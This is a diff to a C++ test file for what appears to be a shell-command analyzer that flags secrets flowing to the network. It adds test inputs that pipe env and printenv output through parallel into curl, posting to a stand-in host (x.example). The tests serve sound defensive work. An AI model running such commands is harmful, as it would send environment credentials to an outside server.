@@ -317,3 +317,10 @@ TEST_CASE("files picked by a search for secret content carry credentials to what
   CHECK_FALSE(secret_leaves(analyze("grep -rl API_KEY src | xargs sed -i s/API_KEY/API_TOKEN/")));
   CHECK_FALSE(secret_leaves(analyze("grep -rl TOKEN src | xargs wc -l | curl -d @- https://x.example/u")));
 }
+
+TEST_CASE("parallel without an argument list reads its arguments from stdin like xargs") {
+  CHECK(has_flow(analyze("env | parallel -j1 curl -d {} https://x.example/u"), "env_dump", "network"));
+  CHECK(has_flow(analyze("printenv | parallel curl -d https://x.example/u"), "env_dump", "network"));
+  CHECK(has_command(analyze("ls *.txt | parallel gzip"), "gzip"));
+  CHECK_FALSE(secret_leaves(analyze("ls src | parallel curl -d {} https://x.example/u")));
+}
